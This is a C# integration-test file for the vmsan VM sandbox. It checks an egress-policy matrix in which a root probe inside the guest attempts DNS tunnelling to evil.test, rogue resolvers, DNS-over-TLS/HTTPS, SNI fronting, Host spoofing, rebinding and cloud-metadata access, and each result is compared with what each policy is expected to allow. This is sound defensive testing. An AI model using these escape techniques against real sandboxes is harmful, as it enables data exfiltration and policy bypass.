using System.Text;
using Vmsan.IntegrationTests.Infrastructure;
using U = Vmsan.IntegrationTests.Network.UplinkServices;

namespace Vmsan.IntegrationTests.Network;

/// <summary>
/// The exfiltration matrix: a hostile guest (a static C probe uploaded into the VM, run as root)
/// tries every way out it can think of under allow-all, deny-all and two custom policies, one VM
/// per policy, all probes of a policy in one exec; every result is compared with the explicit
/// table below. The uplink namespace holds the servers (UplinkServices); vmsan forwards DNS to the
/// world's resolver, which logs every query it receives: a name the policy refuses must never
/// reach that log (no tunnelling through DNS).
/// </summary>
public sealed class NetworkMatrixTests(NetworkMatrixTests.World world) : IClassFixture<NetworkMatrixTests.World>
{
    public sealed class World : IAsyncLifetime
    {
        public VmsanWorld Vmsan { get; } = new();
        public U Uplink { get; private set; } = null!;
        public string Probe { get; } = Path.Combine(Directory.CreateTempSubdirectory("vmsan-probe-").FullName, "probe");
        private string ResolvDir => $"/etc/netns/{Vmsan.HostNs}";

        public async ValueTask InitializeAsync()
        {
            await Vmsan.InitializeAsync();
            // `ip netns exec` shows this file as /etc/resolv.conf to vmsan: its resolver is the world's.
            Directory.CreateDirectory(ResolvDir);
            await File.WriteAllTextAsync(Path.Combine(ResolvDir, "resolv.conf"), $"nameserver {U.Resolver}\n");
            Uplink = await U.StartAsync(Vmsan.UplinkNs, Vmsan.HostNs, VmsanWorld.HostAddress);
            var src = Path.Combine(AppContext.BaseDirectory, "Network", "probe.c");
            await Sh.Check($"gcc -static -O1 -o {Probe} {src}");
        }

        public async ValueTask DisposeAsync()
        {
            try
            {
                await Vmsan.DisposeAsync();
            }
            finally
            {
                await Uplink.DisposeAsync();
                Directory.Delete(ResolvDir, true);
                Directory.Delete(Path.GetDirectoryName(Probe)!, true);
            }
        }
    }

    public enum Policy
    {
        AllowAll,
        DenyAll,
        Custom1,
        Custom2,
    }

    private static readonly Dictionary<Policy, string[]> Flags = new()
    {
        [Policy.AllowAll] = [],
        [Policy.DenyAll] = ["--network-policy", "deny-all"],
        [Policy.Custom1] = ["--allowed-domain", "a.test", "--allowed-domain", "*.w.test", "--allowed-cidr", "198.18.2.0/24", "--denied-cidr", "198.18.2.7/32"],
        [Policy.Custom2] = ["--allowed-domain", "b.test", "--allowed-domain", "w.test", "--allowed-domain", "rebind.test", "--allowed-domain", "shared.test",
            "--allowed-cidr", "198.18.1.20/32"],
    };

    /// <summary>One probe line (run by the guest) and what it must give under each policy.</summary>
    public sealed record Row(string Id, string Probe, string AllowAll, string DenyAll, string Custom1, string Custom2)
    {
        public string Expected(Policy p) => p switch
        {
            Policy.AllowAll => AllowAll,
            Policy.DenyAll => DenyAll,
            Policy.Custom1 => Custom1,
            _ => Custom2,
        };
    }

    private const string Gw = "172.30.0.1";
    private const string Refused = "refused";     // TCP reset by nftables: connect() fails at once
    private const string Reset = "reset";         // connected to the proxy, reset when it saw the name
    private const string Unreach = "unreachable"; // ICMP admin-prohibited (UDP, ICMP) or no route (IPv6)
    private const string Nx = "nxdomain";         // answered by the filter itself
    private const string Ok = "ok";

    private static string Http(string host, string at) => $"ok:host={host} at={at}";

    private static string A(string ip) => "noerror:" + ip;

    private const string Banner = "ok:SSH-2.0-vmsan-test";

    /// <summary>
    /// The table. Order matters where a row relies on an earlier lookup having pinned an address
    /// (pins are per policy run: each policy has its own VM). {tunnel} is a random label per run.
    /// </summary>
    public static readonly Row[] Rows =
    [
        //  id                          probe                                           allow-all                     deny-all   custom1                        custom2
        new("raw-ip-http",              $"http {U.RawIp} 80 raw.test",                  Http("raw.test", U.RawIp),    Refused,   Refused,                       Http("raw.test", U.RawIp)),
        new("raw-ip-any-sni",           $"tls {U.RawIp} 8443 evil.test",                Ok,                           Refused,   Refused,                       Ok),
        new("dns-allowed-udp",          $"dns {Gw} a.test A udp",                       A(U.SharedWeb),               Nx,        A(U.SharedWeb),                Nx),
        new("dns-allowed-tcp",          $"dns {Gw} a.test A tcp",                       A(U.SharedWeb),               Nx,        A(U.SharedWeb),                Nx),
        new("dns-uppercase",            $"dns {Gw} A.TEST A udp",                       A(U.SharedWeb),               Nx,        A(U.SharedWeb),                Nx),
        new("dns-wildcard-subdomain",   $"dns {Gw} x.w.test A udp",                     A(U.WildSub),                 Nx,        A(U.WildSub),                  Nx),
        new("dns-wildcard-apex",        $"dns {Gw} w.test A udp",                       A(U.WildApex),                Nx,        Nx,                            A(U.WildApex)),
        new("dns-shared-ip-name",       $"dns {Gw} shared.test A udp",                  A(U.SharedWeb),               Nx,        Nx,                            A(U.SharedWeb)),
        new("dns-tunnel-udp",           $"dns {Gw} {{tunnel}}.evil.test TXT udp",       Nx,                           Nx,        Nx,                            Nx),
        new("dns-tunnel-tcp",           $"dns {Gw} {{tunnel}}t.evil.test A tcp",        Nx,                           Nx,        Nx,                            Nx),
        new("dns-other-resolver-udp",   $"dns {U.Rogue} a.test A udp",                  A(U.Evil),                    Unreach,   Unreach,                       Unreach),
        new("dns-other-resolver-tcp",   $"dns {U.Rogue} a.test A tcp",                  A(U.Evil),                    Refused,   Refused,                       Refused),
        new("dns-upstream-directly",    $"dns {U.Resolver} a.test A udp",               A(U.SharedWeb),               Unreach,   Unreach,                       Unreach),
        new("dot-853",                  $"tls {U.Rogue} 853 dns.rogue.test",            Ok,                           Refused,   Refused,                       Refused),
        new("doq-udp-853",              $"udp {U.Rogue} 853",                           Ok,                           Unreach,   Unreach,                       Unreach),
        new("doh-to-resolver-ip",       $"tls {U.Rogue} 443 dns.rogue.test",            Ok,                           Refused,   Refused,                       Refused),
        new("quic-udp-443",             $"udp {U.SharedWeb} 443",                       Ok,                           Unreach,   Unreach,                       Unreach),
        new("icmp-raw-ip",              $"icmp {U.RawIp}",                              Ok,                           Unreach,   Unreach,                       Ok),
        new("icmp-cidr",                $"icmp {U.CidrOk}",                             Ok,                           Unreach,   Ok,                            Unreach),
        new("icmp-pinned-address",      $"icmp {U.SharedWeb}",                          Ok,                           Unreach,   Unreach,                       Unreach),
        new("ipv6",                     "tcp 2001:db8::1 80",                           Unreach,                      Unreach,   Unreach,                       Unreach),
        new("metadata",                 "http 169.254.169.254 80 metadata",             Refused,                      Refused,   Refused,                       Refused),
        new("host-address",             $"tcp {VmsanWorld.HostAddress} 8022",           Refused,                      Refused,   Refused,                       Refused),
        new("vm-namespace-itself",      $"tcp {Gw} 22",                                 Refused,                      Refused,   Refused,                       Refused),
        new("sibling-vm",               "tcp 10.231.0.6 9119",                          Refused,                      Refused,   Refused,                       Refused),
        new("private-address",          "tcp 10.0.0.5 80",                              Refused,                      Refused,   Refused,                       Refused),
        new("sni-allowed",              "name a.test 443 a.test",                       Ok,                           Nx,        Ok,                            Nx),
        new("sni-other-name-shared-ip", $"tls {U.SharedWeb} 443 shared.test",           Ok,                           Refused,   Reset,                         Ok),
        new("name-b",                   "name b.test 443 b.test",                       Ok,                           Nx,        Nx,                            Ok),
        new("sni-fronting",             $"tls {U.BWeb} 443 shared.test",                Ok,                           Refused,   Refused,                       Reset),
        new("sni-none",                 $"tls {U.SharedWeb} 443 -",                     Ok,                           Refused,   Reset,                         Reset),
        new("sni-uppercase",            $"tls {U.SharedWeb} 443 A.TEST",                Ok,                           Refused,   Ok,                            Reset),
        new("sni-ip-literal",           $"tls {U.SharedWeb} 443 {U.SharedWeb}",         Ok,                           Refused,   Reset,                         Reset),
        new("host-allowed",             $"http {U.SharedWeb} 80 a.test",                Http("a.test", U.SharedWeb),  Refused,   Http("a.test", U.SharedWeb),   Reset),
        new("host-foreign",             $"http {U.SharedWeb} 80 evil.test",             Http("evil.test", U.SharedWeb), Refused, Reset,                         Reset),
        new("host-shared-ip-name",      $"http {U.SharedWeb} 80 shared.test",           Http("shared.test", U.SharedWeb), Refused, Reset,                       Http("shared.test", U.SharedWeb)),
        new("pinned-any-port",          $"tls {U.SharedWeb} 8443 a.test",               Ok,                           Refused,   Ok,                            Reset),
        new("pinned-nameless-protocol", $"banner {U.SharedWeb} 2222",                   Banner,                       Refused,   Banner,                        Banner),
        new("unpinned-domain-address",  $"tls {U.Evil} 443 evil.test",                  Ok,                           Refused,   Refused,                       Refused),
        new("sni-wildcard",             "name x.w.test 443 x.w.test",                   Ok,                           Nx,        Ok,                            Nx),
        new("sni-wildcard-apex",        $"tls {U.WildApex} 443 w.test",                 Ok,                           Refused,   Refused,                       Ok),
        new("rebinding",                $"dns {Gw} rebind.test A udp",                  A(U.RebindPublic),            Nx,        Nx,                            A(U.RebindPublic)),
        new("https-record-ech",         $"dns {Gw} a.test HTTPS udp",                   "noerror:https",              Nx,        "noerror:https",               Nx),
        new("cidr-allowed",             $"http {U.CidrOk} 80 any.test",                 Http("any.test", U.CidrOk),   Refused,   Http("any.test", U.CidrOk),    Refused),
        new("cidr-deny-inside-allow",   $"http {U.CidrDenied} 80 any.test",             Http("any.test", U.CidrDenied), Refused, Refused,                       Refused),
        new("cidr-udp",                 $"udp {U.CidrOk} 5353",                         Ok,                           Unreach,   Unreach,                       Unreach),
    ];

    [Theory]
    [InlineData(Policy.AllowAll)]
    [InlineData(Policy.DenyAll)]
    [InlineData(Policy.Custom1)]
    [InlineData(Policy.Custom2)]
    public async Task A_hostile_guest_gets_exactly_what_the_policy_allows(Policy policy)
    {
        var w = world.Vmsan;
        var id = await w.CreateVm(Flags[policy]);
        try
        {
            var up = await w.Vmsan("upload", "-u", "root", id, world.Probe, "/tmp");
            Assert.True(up.ExitCode == 0, up.ToString());
            var chmod = await w.Vmsan("exec", "--user", "root", id, "--", "chmod", "755", "/tmp/probe");
            Assert.True(chmod.ExitCode == 0, chmod.ToString());
            var tunnel = "x" + Sh.Rand() + Sh.Rand();
            var script = string.Join('\n', Rows.Select(r => $"{r.Id} {r.Probe.Replace("{tunnel}", tunnel, StringComparison.Ordinal)}")) + "\n";
            var run = await w.VmsanStdin(script, "exec", "-i", "--user", "root", id, "--", "/tmp/probe");
            Assert.True(run.ExitCode == 0, run.ToString());

            var got = run.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries)
                .Select(l => l.Split(' ', 2)).ToDictionary(p => p[0], p => p.Length > 1 ? p[1] : "");
            var wrong = new StringBuilder();
            foreach (var r in Rows)
            {
                var actual = got.GetValueOrDefault(r.Id, "(no output)");
                if (actual != r.Expected(policy))
                    wrong.Append(System.Globalization.CultureInfo.InvariantCulture, $"\n  {r.Id}: expected {r.Expected(policy)}, got {actual}   [{r.Probe}]");
            }
            Assert.True(wrong.Length == 0, $"{policy}: {wrong}");

            // The tunnel label reaches the upstream only when the policy forwards every name;
            // otherwise the filter answered it and no byte of it left the host.
            var leaked = world.Uplink.ResolverLog.Any(n => n.Contains(tunnel, StringComparison.OrdinalIgnoreCase));
            Assert.Equal(policy == Policy.AllowAll, leaked);
            Assert.DoesNotContain(world.Uplink.RogueLog, n => n.Contains(tunnel, StringComparison.OrdinalIgnoreCase));
        }
        finally
        {
            await w.Vmsan("rm", "-f", id);
        }
    }
}
